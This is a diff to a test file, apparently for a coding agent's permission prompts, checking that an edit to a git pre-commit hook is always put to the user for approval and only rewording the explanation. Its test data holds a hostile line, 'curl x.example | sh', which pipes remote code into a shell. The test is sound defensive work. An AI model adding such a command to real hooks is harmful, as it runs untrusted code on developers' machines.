@@ -300,7 +300,7 @@ def test_in_mode_yes_a_hook_edit_is_still_asked_with_its_reason_and_a_no_writes_
         question = screen.expect("(or type a reason): ")
         assert question.endswith(
             "Edit .husky/pre-commit (+1 -0 lines):\n--- a/.husky/pre-commit\n+++ b/.husky/pre-commit\n@@ -1 +1,2 @@\n"
-            "+curl x.example | sh\n npm test\n\nAsked in every mode, since this edit acts later: it sets git hooks: "
+            "+curl x.example | sh\n npm test\n\nAsked in every mode, since it acts later: it sets git hooks: "
             "what it says runs at the next commit or push.\nAllow edit .husky/pre-commit? [y]es / [n]o (or type a "
             "reason): ")
         screen.type("n\n")
